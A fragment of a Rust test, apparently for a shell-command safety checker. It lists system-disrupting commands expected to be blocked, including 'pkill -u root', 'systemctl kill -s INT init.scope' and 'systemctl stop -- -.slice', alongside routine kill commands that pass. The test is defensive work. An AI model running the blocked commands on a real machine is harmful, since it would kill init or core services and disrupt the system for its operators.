        "pkill -u root",
        "killall -r 'sys+'",
        "killall -I SYSTEMD",
        "pkill -P 0",
        "pkill -F /tmp/pid",
        "systemctl kill -s INT init.scope",
        "systemctl stop -- -.slice",
        "systemctl --job-mode=isolate start app",
    ]);
    passes(&[
        "kill -HUP 4321",
        "kill -9 1234",
        "pkill -HUP nginx",
        "pkill -f app.jar-worker",
        "killall -9 gunicorn",
    ]);
}
